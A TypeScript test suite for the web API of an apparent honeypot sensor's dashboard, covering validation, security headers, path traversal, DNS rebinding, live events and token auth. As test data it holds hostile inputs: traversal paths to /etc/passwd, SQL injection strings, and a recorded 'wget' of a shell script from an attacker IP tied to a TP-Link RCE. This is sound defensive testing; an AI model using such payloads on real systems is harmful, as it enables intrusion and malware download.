// The JSON API over a real SQLite store fed through the bus: every route, bad parameters (400), 404/405/503,
// security headers, the Tsusen CSV, static files without traversal, token auth and live events.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { request } from 'node:http';
import { connect } from 'node:net';
import type { ScanEvent } from '../../src/core/events.js';
import { after, before, describe, test } from 'node:test';
import { eventually } from '../helpers/sensor.js';
import { CSP } from '../../src/web/http-util.js';
import { startClickHouse, type ClickHouseServer } from '../helpers/clickhouse.js';
import { feed, HOSTILE, session, startFixture, type WebFixture } from './web-fixture.js';

/** GET with node:http: fetch normalises dot segments and may not set Host. */
function raw(base: string, path: string, headers: Record<string, string> = {}): Promise<number> {
  const u = new URL(base);
  return new Promise<number>((resolve, reject) => {
    request({ host: u.hostname, port: u.port, path, headers }, (res) => {
      res.resume();
      resolve(res.statusCode!);
    })
      .on('error', reject)
      .end();
  });
}

interface Page<T> {
  rows: T[];
  total: number;
}
type Row = Record<string, unknown>;

// One contract, two stores: every route answers the same over the sensor's SQLite and the fleet's ClickHouse.
for (const backend of ['sqlite', 'clickhouse'] as const)
  describe(`web API over a real store (${backend})`, () => {
    let f: WebFixture;
    let server: ClickHouseServer | undefined;
    before(async () => {
      if (backend === 'clickhouse') server = await startClickHouse();
      f = await startFixture(server ? { clickhouse: server } : {});
      feed(f.ctx.bus);
      await f.settled();
      await eventually(async () => (await f.json<Page<Row>>('/api/sessions')).total >= 5, 5000);
    });
    after(async () => {
      await f?.close();
      await server?.stop();
    });

    test('summary: totals, rates, top ports and sources, scans, spikes', async () => {
      const s = await f.json<{
        totals: Record<string, number>;
        rates: Record<string, number>;
        top_ports: Row[];
        top_sources: Row[];
        active_scans: Row[];
        spikes: Row[];
      }>('/api/summary');
      assert.ok(s.totals.sessions! >= 5, JSON.stringify(s.totals));
      assert.ok(s.totals.attempts! >= 20);
      assert.equal(typeof s.rates.sessions_per_min, 'number');
      assert.ok(s.top_ports.some((p) => p.port === 8080 && p.proto === 'tcp'));
      assert.ok(s.top_sources.some((x) => x.ip === '198.18.0.2'));
      assert.ok(s.active_scans.some((x) => x.src === '198.18.0.3'));
      assert.ok(s.spikes.some((x) => x.dport === 8080));
      const ranged = await f.get(`/api/summary?from=-7d&to=${Date.now()}`);
      assert.equal(ranged.status, 200);
    });

    test('top ports, per-port series with baseline', async () => {
      const ports = await f.json<Row[]>('/api/ports?limit=5&proto=tcp');
      assert.equal(ports[0]?.port, 8080);
      assert.ok(ports.length <= 5);
      const s = await f.json<{ points: { t: number; new: number; baseline: number }[]; step: string }>(
        '/api/series?port=8080&proto=tcp&step=minute&from=-1h',
      );
      assert.equal(s.step, 'minute');
      assert.equal(
        s.points.reduce((a, p) => a + p.new, 0),
        20,
      );
      assert.ok(s.points.every((p) => typeof p.baseline === 'number'));
      const day = await f.json<{ points: unknown[] }>('/api/series?port=23&step=day');
      assert.ok(day.points.length >= 1);
      // proto=all: attempts on every port (the fleet overview's line per sensor), no port asked for.
      const all = await f.json<{ points: { new: number }[]; proto: string }>(
        '/api/series?proto=all&step=hour&from=-7d',
      );
      const sum = await f.json<{ totals: { attempts: number } }>('/api/summary?from=-7d');
      assert.equal(all.proto, 'all');
      assert.equal(
        all.points.reduce((a, p) => a + p.new, 0),
        sum.totals.attempts,
      );
      assert.ok(sum.totals.attempts >= 27);
    });

    test('sources, one source, 404 for an unknown one', async () => {
      const src = await f.json<Page<Row>>('/api/sources?port=8080');
      assert.ok(src.rows.some((r) => r.ip === '198.18.0.2'));
      const one = await f.json<Row>('/api/sources/198.18.0.3');
      assert.equal(one.ip, '198.18.0.3');
      assert.equal(typeof one.first_seen, 'number');
      assert.ok(Array.isArray(one.tags));
      assert.equal((await f.get('/api/sources/2001%3A2%3A%3A2')).status, 200);
      assert.equal((await f.get('/api/sources/198.18.9.9')).status, 404);
    });

    test('session search by port, source, proto, text, range, with paging; one session', async () => {
      const byPort = await f.json<Page<Row>>('/api/sessions?port=8080');
      assert.equal(byPort.total, 2);
      const bySrc = await f.json<Page<Row>>('/api/sessions?src=2001:2::2&proto=tls');
      assert.equal(bySrc.total, 1);
      assert.equal((bySrc.rows[0]!.tls as Row).sni, HOSTILE);
      const byText = await f.json<Page<Row>>(`/api/sessions?text=${encodeURIComponent('onerror=')}`);
      assert.equal(byText.total, 1);
      const paged = await f.json<Page<Row>>(
        '/api/sessions?limit=2&offset=2&from=-1h&to=' + (Date.now() + 1000),
      );
      assert.equal(paged.rows.length, 2);
      assert.ok(paged.total >= 5);
      const id = byText.rows[0]!.id as number;
      const one = await f.json<Row>(`/api/sessions/${id}`);
      assert.equal(Buffer.from(one.payload as string, 'base64').toString(), HOSTILE);
      assert.equal((await f.get('/api/sessions/999999')).status, 404);
    });

    test('scans, spikes, blocks', async () => {
      const scans = await f.json<Page<Row>>('/api/scans?src=198.18.0.3');
      assert.equal(scans.rows[0]?.tool, 'nmap');
      const spikes = await f.json<Page<Row>>('/api/spikes?port=8080');
      assert.equal(spikes.rows[0]?.count, 20);
      const blocks = await f.json<Page<Row>>('/api/blocks?active=true');
      assert.ok(blocks.rows.some((b) => b.src === '198.18.0.3'));
    });

    test('fleet fields: sensors, sources by sensors, the sensor filter, spike groups', async () => {
      const sensors = await f.json<Row[]>('/api/sensors');
      assert.equal(sensors.length, 1);
      assert.equal(sensors[0]!.sensor, 'test');
      assert.equal(sensors[0]!.state, 'ok');
      assert.ok((sensors[0]!.sessions as number) >= 5 && (sensors[0]!.attempts as number) >= 27);
      const s = await f.json<{ top_sources_by_sensors: Row[] }>('/api/summary?sensor=test');
      assert.ok(s.top_sources_by_sensors.some((x) => x.ip === '198.18.0.2' && x.sensors === 1));
      const all = await f.json<Page<Row>>('/api/sessions');
      assert.equal((await f.json<Page<Row>>('/api/sessions?sensor=test')).total, all.total);
      const other = await f.get('/api/sessions?sensor=elsewhere');
      // A single sensor's store knows only itself; the fleet store has nothing from that sensor.
      if (backend === 'sqlite') assert.equal(other.status, 404);
      else assert.equal((JSON.parse(other.text) as Page<Row>).total, 0);
      const groups = await f.json<Row[]>('/api/fleet-spikes');
      assert.ok(groups.some((g) => g.dport === 8080 && (g.sensors as string[]).join() === 'test'));
    });

    test('daily rows as Tsusen CSV', async () => {
      const day = new Date().toISOString().slice(0, 10);
      const r = await f.get(`/api/daily.csv?day=${day}`);
      assert.equal(r.status, 200);
      assert.match(r.headers.get('content-type')!, /^text\/csv/);
      assert.equal(r.headers.get('content-disposition'), `attachment; filename="${day}.csv"`);
      const lines = r.text.trim().split('\n');
      assert.equal(lines[0], 'proto dst_port dst_ip src_ip first_seen last_seen count');
      assert.ok(
        lines.some((l) => /^TCP 8080 198\.18\.0\.1 198\.18\.0\.2 \d{10} \d{10} \d+$/.test(l)),
        r.text,
      );
      const other = await f.get('/api/daily.csv?day=2001-01-01');
      assert.equal(other.text, 'proto dst_port dst_ip src_ip first_seen last_seen count\n');
    });

    test('bad parameters get 400 with a message that names the parameter', async () => {
      const cases: [string, RegExp][] = [
        ['/api/series?port=0', /port/],
        ['/api/series?port=65536', /port/],
        ['/api/series?port=abc', /port/],
        ['/api/series', /port is required/],
        ['/api/series?port=80&step=week', /step/],
        ['/api/series?port=80&step=minute&from=-30d', /range/],
        ['/api/sessions?src=1.2.3', /src/],
        ['/api/sessions?src=%3Cscript%3E', /src/],
        ['/api/sessions?proto=icmp', /proto/],
        ['/api/sessions?limit=0', /limit/],
        ['/api/sessions?limit=100000', /limit/],
        ['/api/sessions?offset=-1', /offset/],
        ['/api/sessions?text=' + 'a'.repeat(300), /text/],
        ['/api/sessions?from=yesterday', /from/],
        ['/api/sessions?from=2026-13-45T99:00:00Z', /from/],
        ['/api/sessions?from=2000&to=1000', /from must not be after to/],
        ['/api/sessions?port=1&port=2', /more than once/],
        ['/api/sessions?bogus=1', /unknown parameter "bogus"/],
        ['/api/sessions?sensor=%27%3B%20DROP', /sensor/],
        ['/api/sessions/abc', /session id/],
        ['/api/sources/not-an-ip', /address/],
        ['/api/summary?from=-500d', /400 days/],
        ['/api/blocks?active=maybe', /active/],
        ['/api/daily.csv?day=2026-02-30', /day/],
        ['/api/daily.csv?day=..%2F..%2Fetc', /day/],
      ];
      for (const [path, msg] of cases) {
        const r = await f.get(path);
        assert.equal(r.status, 400, `${path}: ${r.status} ${r.text}`);
        const body = JSON.parse(r.text) as { error: string };
        assert.match(body.error, msg, path);
      }
    });

    test('unknown routes 404, other methods 405, huge URLs 414', async () => {
      assert.equal((await f.get('/api/nope')).status, 404);
      assert.equal((await f.get('/nope')).status, 404);
      const post = await fetch(`${f.base}/api/summary`, { method: 'POST', body: 'x' });
      assert.equal(post.status, 405);
      assert.equal((await f.get('/api/sessions?text=' + 'a'.repeat(5000))).status, 414);
      assert.equal(await raw(f.base, '/', { 'X-Big': 'a'.repeat(20_000) }), 431);
    });

    test('security headers on pages and API', async () => {
      for (const path of ['/', '/sessions', '/api/summary', '/static/app.css']) {
        const r = await f.get(path);
        assert.equal(r.status, 200, path);
        assert.equal(r.headers.get('content-security-policy'), CSP);
        assert.match(CSP, /script-src 'self';/);
        assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
        assert.equal(r.headers.get('referrer-policy'), 'no-referrer');
      }
      const js = await f.get('/static/uPlot.iife.min.js');
      assert.match(js.headers.get('content-type')!, /javascript/);
      assert.ok(js.text.includes('uPlot'));
    });

    test('static files only from the allow-list: no path traversal', async () => {
      for (const p of [
        '/static/../../../../etc/passwd',
        '/static/%2e%2e/%2e%2e/etc/passwd',
        '/static/..%2f..%2fpackage.json',
        '/static/index.ts',
        '/static/',
        '/..%5c..%5cetc/passwd',
      ]) {
        assert.equal(await raw(f.base, p), 404, p);
      }
    });

    test('loopback: a foreign Host header (DNS rebinding) gets 403', async () => {
      assert.equal(await raw(f.base, '/api/summary', { Host: 'attacker.example' }), 403);
      assert.equal(await raw(f.base, '/api/summary', { Host: 'attacker.example:8339' }), 403);
      assert.equal(await raw(f.base, '/api/summary', { Host: 'localhost:8339' }), 200);
      assert.equal(await raw(f.base, '/api/summary', { Host: '[::1]:8339' }), 200);
    });

    test('/metrics serves the metrics component', async () => {
      const r = await f.get('/metrics');
      assert.equal(r.status, 200);
      assert.equal(r.text, 'tidewatch_up 1\n');
    });

    test('live: server-sent events carry new sessions as JSON', async () => {
      const ac = new AbortController();
      const res = await fetch(`${f.base}/api/live`, { signal: ac.signal });
      assert.equal(res.status, 200);
      assert.match(res.headers.get('content-type')!, /text\/event-stream/);
      const reader = res.body!.getReader();
      let text = '';
      const read = (async () => {
        while (!text.includes('event: session')) {
          const { value, done } = await reader.read();
          if (done) break;
          text += Buffer.from(value).toString();
          if (text.includes('connected')) f.ctx.bus.emit(session({ src: '198.18.0.9', dport: 2222 }));
        }
      })();
      await Promise.race([read, new Promise((r) => setTimeout(r, 5000))]);
      ac.abort();
      const line = text.split('\n').find((l) => l.startsWith('data: {'));
      assert.ok(line, text);
      const msg = JSON.parse(line.slice(6)) as Row;
      assert.equal(msg.src, '198.18.0.9');
      assert.equal(msg.preview, 'GET / HTTP/1.1..Host: x....');
    });

    test("responder and intel fields: a session's persona, credentials, app, signature; tag=, campaigns, IOCs", async () => {
      const now = Date.now();
      const sig = {
        template: "GET /cgi-bin/luci;stok=<*>/locale?form=country&operation=write&country=$('<*>')",
        sha256: 'ab'.repeat(32),
      };
      const rich = session({
        src: '198.18.0.7',
        dport: 2323,
        persona: 'telnet',
        sent: [
          {
            index: 0,
            timestamp: new Date(now).toISOString(),
            data: Buffer.from('login: ').toString('base64'),
          },
        ],
        credentials: [{ username: 'root', password: "x'); DROP TABLE sessions; --\\" }],
        commands: ['cd /tmp; wget http://198.18.9.9/x.sh'],
        tags: [
          { name: 'cve:CVE-2023-1389', confidence: 1 },
          { name: 'mirai', confidence: 0.8 },
        ],
        app: 'http',
        cves: ['CVE-2023-1389'],
        rules: ['tplink-luci-rce'],
        iocs: { urls: ['http://198.18.9.9/x.sh'], hosts: ['198.18.9.9'] },
        signature: sig,
      });
      f.ctx.bus.emit(rich);
      f.ctx.bus.emit(session({ src: '198.18.0.8', dport: 2323, iocs: { urls: [], hosts: ['198.18.9.9'] } }));
      f.ctx.bus.emit({
        type: 'campaign',
        ts: new Date(now).toISOString(),
        sensor: 'test',
        kind: 'new',
        signature: sig.template,
        app: 'http',
        example: 'GET /cgi-bin/luci',
        tags: ['cve:CVE-2023-1389'],
        cves: ['CVE-2023-1389'],
        sources: 3,
        interval_s: 300,
        baseline: { mean: 0, sd: 0 },
        first_seen: new Date(now - 60_000).toISOString(),
        ports: [2323],
        series: [0, 3],
      });
      await f.settled();
      await eventually(async () => (await f.json<Page<Row>>('/api/iocs')).total >= 2, 5000);
      const tagged = await f.json<Page<Row>>('/api/sessions?tag=mirai');
      assert.equal(tagged.total, 1);
      assert.equal((await f.json<Page<Row>>('/api/sessions?tag=absent')).total, 0);
      const bySig = await f.json<Page<Row>>(`/api/sessions?signature=${encodeURIComponent(sig.template)}`);
      assert.equal(bySig.total, 1);
      const one = await f.json<Row>(`/api/sessions/${tagged.rows[0]!.id as number}`);
      const { tags, app, cves, rules, iocs, signature, persona, sent, credentials, commands } = one;
      assert.deepEqual(
        { tags, app, cves, rules, iocs, signature, persona, sent, credentials, commands },
        {
          tags: rich.tags,
          app: 'http',
          cves: rich.cves,
          rules: rich.rules,
          iocs: rich.iocs,
          signature: sig,
          persona: 'telnet',
          sent: Buffer.from('login: ').toString('base64'),
          credentials: rich.credentials,
          commands: rich.commands,
        },
      );
      const camps = await f.json<Page<Row>>('/api/campaigns');
      assert.equal(camps.total, 1);
      assert.equal(camps.rows[0]!.signature, sig.template);
      const all = await f.json<Page<Row>>('/api/iocs');
      const host = all.rows.find((r) => r.kind === 'host')!;
      assert.deepEqual(
        [host.value, host.sessions, host.sources],
        ['198.18.9.9', 2, ['198.18.0.7', '198.18.0.8']],
      );
      const bySrc = await f.json<Page<Row>>('/api/iocs?src=198.18.0.8');
      assert.deepEqual(
        bySrc.rows.map((r) => [r.kind, r.value]),
        [['host', '198.18.9.9']],
      );
    });
  });

describe('live updates under load', () => {
  test('a client that stops reading loses messages (counted), the queue stays bounded, then it is told', async () => {
    const f = await startFixture();
    try {
      const u = new URL(f.base);
      const sock = connect({ host: u.hostname, port: Number(u.port) });
      await once(sock, 'connect');
      sock.write(`GET /api/live HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
      await eventually(() => f.web.live.size === 1, 3000);
      sock.pause();
      const scan = (i: number): ScanEvent => ({
        type: 'scan',
        ts: new Date().toISOString(),
        sensor: 't',
        id: `s${i}`,
        state: 'update',
        src: '198.18.0.7',
        kind: 'vertical',
        probe: 'syn',
        ports: i,
        hosts: 1,
        probes: i,
        window_s: 300,
        first_seen: new Date().toISOString(),
        last_seen: new Date().toISOString(),
        tool: 'x'.repeat(400),
        handshake_completed: false,
        action: 'logged',
      });
      // ~10 MB of messages: far beyond the socket buffers and the 256-message queue.
      for (let i = 0; i < 25_000; i++) {
        f.ctx.bus.emit(scan(i));
        if (i % 1000 === 0) await new Promise((r) => setImmediate(r));
      }
      const dropped = f.ctx.stats.get('web_live_dropped_total');
      assert.ok(dropped > 10_000, `dropped ${dropped}`);
      let text = '';
      sock.on('data', (d: Buffer) => (text = (text + d.toString('latin1')).slice(-200_000)));
      sock.resume();
      assert.ok(await eventually(() => text.includes('event: dropped'), 5000), 'no dropped notice');
      sock.destroy();
    } finally {
      await f.close();
    }
  });
});

describe('web API without a store', () => {
  test('every API route answers 503 with a clear message; /metrics still works', async () => {
    const f = await startFixture({ store: false });
    try {
      for (const p of ['/api/summary', '/api/sessions', '/api/daily.csv']) {
        const r = await f.get(p);
        assert.equal(r.status, 503, p);
        assert.match(r.text, /--store/);
      }
      assert.equal((await f.get('/metrics')).status, 200);
    } finally {
      await f.close();
    }
  });
});

describe('web token auth', () => {
  test('401 without the token, 200 with Bearer or the login cookie', async () => {
    const f = await startFixture({ token: 'sekret-token' });
    try {
      for (const p of ['/api/summary', '/metrics', '/api/live', '/static/app.css']) {
        const r = await f.get(p);
        assert.equal(r.status, 401, p);
        assert.match(r.headers.get('www-authenticate') ?? '', /Bearer/);
      }
      const page = await f.get('/', { Accept: 'text/html' });
      assert.equal(page.status, 401);
      assert.match(page.text, /<form method="post" action="\/login">/);
      assert.equal((await f.get('/api/summary', { Authorization: 'Bearer wrong' })).status, 401);
      assert.equal((await f.get('/api/summary', { Authorization: 'Bearer sekret-token' })).status, 200);
      assert.equal((await f.get('/metrics', { Authorization: 'Bearer sekret-token' })).status, 200);
      assert.equal((await f.get('/login')).status, 200);
      assert.equal((await f.get('/static/login.css')).status, 200);

      const bad = await fetch(`${f.base}/login`, {
        method: 'POST',
        body: new URLSearchParams({ token: 'nope' }),
        redirect: 'manual',
      });
      assert.equal(bad.status, 401);
      const ok = await fetch(`${f.base}/login`, {
        method: 'POST',
        body: new URLSearchParams({ token: 'sekret-token' }),
        redirect: 'manual',
      });
      assert.equal(ok.status, 303);
      const cookie = ok.headers.get('set-cookie')!;
      assert.match(cookie, /HttpOnly/);
      assert.match(cookie, /SameSite=Strict/);
      assert.ok(!cookie.includes('sekret-token'));
      const withCookie = await f.get('/api/summary', { Cookie: cookie.split(';')[0]! });
      assert.equal(withCookie.status, 200);
      const big = await fetch(`${f.base}/login`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: 'token=' + 'x'.repeat(10_000),
      });
      assert.equal(big.status, 413);
    } finally {
      await f.close();
    }
  });
});
